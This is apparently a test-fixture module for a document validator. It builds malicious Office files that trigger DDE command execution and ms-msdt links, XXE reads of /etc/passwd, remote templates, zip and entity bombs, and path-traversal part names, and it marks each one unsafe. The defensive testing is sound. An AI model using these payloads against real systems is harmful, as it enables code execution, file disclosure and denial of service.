"""Office documents that act, fetch, carry, swell or lie."""

from collections.abc import Callable

from tests.claims.evidence.corpus import zips
from tests.claims.evidence.corpus.documents import (
    CELLS,
    FORMAT,
    HEAD,
    ROOT,
    WORD,
    body,
    fields,
    letter,
    table,
    talk,
    with_chart,
)
from tests.claims.evidence.corpus.entry import Entry, Expected, entry, mismatch, noise, unsafe

COMPOUND = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
OUTSIDE = "External"
ENTITIES = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "ha"}">' for n in range(12))


def _with_prolog(prolog: str, text: str) -> bytes:
    return f'<?xml version="1.0"?>{prolog}<w:document xmlns:w="{WORD}"><w:body>{text}</w:body></w:document>'.encode()


def compound(stream: str) -> bytes:
    """The beginning and directory of a compound file, which old and encrypted documents are."""
    return COMPOUND + bytes(1016) + stream.encode("utf-16-le").ljust(128, b"\0") + noise(4096)


def word(name: str, build: Callable[[], bytes], expected: Expected) -> Entry:
    return entry(f"docx: {name}", "proof.docx", build, expected)


def excel(name: str, build: Callable[[], bytes], expected: Expected) -> Entry:
    return entry(f"xlsx: {name}", "proof.xlsx", build, expected)


def slides(name: str, build: Callable[[], bytes], expected: Expected) -> Entry:
    return entry(f"pptx: {name}", "proof.pptx", build, expected)


def pointing(kind: str, target: str) -> Callable[[], bytes]:
    """A letter that points outside."""
    return lambda: letter(pointers=((kind, target, OUTSIDE),))


def active() -> list[Entry]:
    macro_main = "application/vnd.ms-word.document.macroEnabled.main+xml"
    docm = lambda: letter(types={"word/document.xml": macro_main})  # noqa: E731 - one of many short builders
    vba = {"word/vbaProject.bin": COMPOUND}
    sheet4 = {"xl/macrosheets/sheet1.xml": f'{HEAD}<macrosheet xmlns="{CELLS}"/>'.encode()}
    control = {"word/activeX/activeX1.xml": b"<ax/>"}
    exchange = f'{HEAD}<externalLink xmlns="{CELLS}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    linked = {"xl/externalLinks/externalLink1.xml": f"{FORMAT}.spreadsheetml.externalLink+xml"}
    click = '<a:hlinkClick r:id="" action="ppaction://{}" xmlns:r="urn:r"/>'
    simple = '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\cmd.exe /c "/></w:p>'
    return [
        word("a .docm with another name", docm, unsafe("macros")),
        word("macros in a part", lambda: letter(vba), unsafe("macros")),
        word("macros under another name", _renamed_macros, unsafe("macros")),
        excel("a sheet of Excel 4 macros", lambda: table(sheet4), unsafe("macros")),
        slides("a click runs a macro", lambda: talk(inside=click.format("macro?name=a")), unsafe("macros")),
        slides("a click starts a program", lambda: talk(inside=click.format("program")), unsafe("launch")),
        word(
            "an ActiveX control",
            lambda: letter(control, pointers=(("control", "activeX/activeX1.xml"),)),
            unsafe("launch"),
        ),
        word(
            "a field that starts a program",
            lambda: letter(inside=fields(' DDEAUTO c:\\cmd.exe "/c" ')),
            unsafe("launch"),
        ),
        word("such a field in pieces", lambda: letter(inside=fields(" D", "DE", "AUTO cmd")), unsafe("launch")),
        word("such a field in one element", lambda: letter(inside=simple), unsafe("launch")),
        word("such a field in a header", _field_in_header, unsafe("launch")),
        excel(
            "a link that starts a program",
            lambda: table({"xl/externalLinks/externalLink1.xml": exchange.encode()}, types=linked),
            unsafe("launch"),
        ),
        word("a link to ms-msdt:", pointing("hyperlink", "ms-msdt:/id PCWDiagnostic"), unsafe("launch")),
    ]


def _renamed_macros() -> bytes:
    types = {"word/data.bin": "application/vnd.ms-office.vbaProject"}
    return letter({"word/data.bin": b"harmless"}, types=types)


def _field_in_header() -> bytes:
    header = f'{HEAD}<w:hdr xmlns:w="{WORD}">{fields(" DDE cmd ")}</w:hdr>'.encode()
    types = {"word/header1.xml": f"{FORMAT}.wordprocessingml.header+xml"}
    return letter({"word/header1.xml": header}, types=types)


def fetching() -> list[Entry]:
    template = lambda target: pointing("attachedTemplate", target)  # noqa: E731
    hidden = _with_prolog('<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;")
    outside = _with_prolog('<!DOCTYPE d SYSTEM "https://example.net/a.dtd">', "")
    return [
        word("a template from the web", template("https://example.net/a.dotm"), unsafe("external_template")),
        word("a template from a share", template("file:///\\\\host\\a\\b.dotm"), unsafe("external_template")),
        word("a template from a share, escaped", template("file:%2F%2Fhost/b.dotm"), unsafe("external_template")),
        word(
            "an OLE object from the web", pointing("oleObject", "https://example.net/a!"), unsafe("external_template")
        ),
        word("an OLE object by mhtml:", pointing("oleObject", "mhtml:https://a!x-usc:b"), unsafe("external_template")),
        word("a frame from the web", pointing("frame", "https://example.net/"), unsafe("external_template")),
        word(
            "a subdocument from the web", pointing("subDocument", "https://example.net/a"), unsafe("external_template")
        ),
        word("a picture from the web", pointing("image", "https://example.net/a.png"), unsafe("external_template")),
        word(
            "a field that takes in a page",
            lambda: letter(inside=fields(' INCLUDETEXT "http://a/" ')),
            unsafe("external_template"),
        ),
        word("an entity that reads a file", lambda: letter({"word/document.xml": hidden}), unsafe("external_template")),
        word(
            "a document type from the web", lambda: letter({"word/document.xml": outside}), unsafe("external_template")
        ),
        excel("an entity in a sheet", _entity_in_sheet, unsafe("external_template")),
        slides(
            "a film from the web",
            lambda: talk(pointers=(("video", "https://a/", OUTSIDE),)),
            unsafe("external_template"),
        ),
    ]


def _entity_in_sheet() -> bytes:
    text = f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY x SYSTEM "http://a/">]><worksheet xmlns="{CELLS}"/>'
    return table({"xl/worksheets/sheet1.xml": text.encode("utf-16")})


def carrying() -> list[Entry]:
    ole = {"word/embeddings/oleObject1.bin": COMPOUND}
    chart = lambda workbook: letter(with_chart(workbook))  # noqa: E731
    nested = {"word/embeddings/a.docx": letter()}
    foreign = {"word/media/image1.png": b"MZ" + noise(100)}
    html = {"word/a.html": b"<script>alert(1)</script>"}
    within = lambda: table({"xl/embeddings/b.xlsx": table()}, pointers=(("package", "embeddings/b.xlsx"),))  # noqa: E731
    return [
        word(
            "an OLE object",
            lambda: letter(ole, pointers=(("oleObject", "embeddings/oleObject1.bin"),)),
            unsafe("embedded_files"),
        ),
        word("an OLE object nobody points to", lambda: letter(ole), unsafe("embedded_files")),
        word(
            "another document",
            lambda: letter(nested, pointers=(("package", "embeddings/a.docx"),)),
            unsafe("embedded_files"),
        ),
        word("a program called a picture", lambda: letter(foreign), unsafe("embedded_files")),
        word(
            "a piece of HTML to take in",
            lambda: letter(html, pointers=(("aFChunk", "a.html"),)),
            unsafe("embedded_files"),
        ),
        word("a ZIP in a ZIP in a ZIP", _nested, unsafe("embedded_files")),
        word("a chart whose workbook has macros", lambda: chart(table({"xl/vbaProject.bin": b"x"})), unsafe("macros")),
        word("a chart whose workbook has a workbook", lambda: chart(within()), unsafe("embedded_files")),
        word("a password", lambda: compound("EncryptedPackage"), unsafe("encrypted")),
        word("an encrypted part", lambda: zips.with_flag(letter(), 1), unsafe("encrypted")),
    ]


def _nested() -> bytes:
    inner = b"x"
    for _ in range(3):
        inner = zips.zipped({"a.zip": inner})
    return letter({"word/media/a.zip": inner})


def swelling() -> list[Entry]:
    zeros = {"word/media/a.bmp": b"\0" * 100_000_000}
    many = {f"word/media/{number}.bmp": b"\0" * 7_000_000 for number in range(40)}
    laughs = _with_prolog(f"<!DOCTYPE d [{ENTITIES}]>", "&a11;")
    deep = "<w:p>" * 50_000 + "</w:p>" * 50_000
    empty = {f"word/media/{number}": b"" for number in range(10_100)}
    return [
        word("a part of 100 MB", lambda: letter(zeros), unsafe("bomb")),
        word("40 parts of 7 MB", lambda: letter(many), unsafe("bomb")),
        word("200 entries for one part", lambda: zips.with_overlap(letter(), 200), unsafe("bomb")),
        word("unpacks to more than it says", lambda: zips.with_size(letter({"z": b"a" * 90_000}), 10), unsafe("bomb")),
        word(
            "unpacks to less than it says",
            lambda: zips.with_size(letter({"z": b"a" * 90_000}), 90_001),
            unsafe("broken"),
        ),
        word("a thousand million laughs", lambda: letter({"word/document.xml": laughs}), unsafe("bomb")),
        word("elements 50,000 deep", lambda: letter(inside=deep), unsafe("too_complex")),
        word("10,100 parts", lambda: letter(empty), unsafe("bomb")),
        word("an archive that contains itself", lambda: zips.quine(b"word/document.xml"), unsafe("bomb")),
    ]


def lying() -> list[Entry]:
    plain = {"a.txt": b"plain"}
    return [
        word("any archive", lambda: zips.zipped(plain), mismatch()),
        word("a workbook", table, mismatch()),
        excel("a presentation", talk, mismatch()),
        slides("a letter", letter, mismatch()),
        word("a template", lambda: letter(main="wordprocessingml.template.main+xml"), mismatch()),
        word("an old .doc", lambda: compound("WordDocument"), mismatch()),
        word("HTML behind it", lambda: letter() + b"<script>alert(1)</script>", mismatch()),
        word("HTML in its comment", lambda: zips.with_comment(letter(), b"<script>"), mismatch()),
        word("bytes between its parts", lambda: zips.with_gap(letter(), b"<script>alert(1)</script>" * 9), mismatch()),
        word("two parts of one name", lambda: zips.with_twin(letter(), "word/document.xml", b"<a/>"), unsafe("broken")),
        word("a part with two names", lambda: zips.with_other_name_inside(letter()), unsafe("broken")),
        word("a part outside", lambda: letter({"../../etc/cron.d/a": b"x"}), unsafe("paths")),
        word("a part at the root", lambda: letter({"/etc/cron.d/a": b"x"}), unsafe("paths")),
        word("a part on a drive", lambda: letter({"c:\\a.exe": b"x"}), unsafe("paths")),
        word("a body that is no XML", lambda: letter({"word/document.xml": noise(999)}), unsafe("broken")),
        word("cut off", lambda: letter()[:-200], unsafe("broken")),
        word(
            "no list of pointers",
            lambda: zips.zipped({k: v for k, v in zips.unzipped(letter()).items() if k != ROOT}),
            mismatch(),
        ),
        word("a body that is empty", lambda: letter({"word/document.xml": b""}), unsafe("broken")),
        word("a body in the middle of nowhere", lambda: letter({ROOT: body("")}), mismatch()),
    ]


OFFICES = [*active(), *fetching(), *carrying(), *swelling(), *lying()]
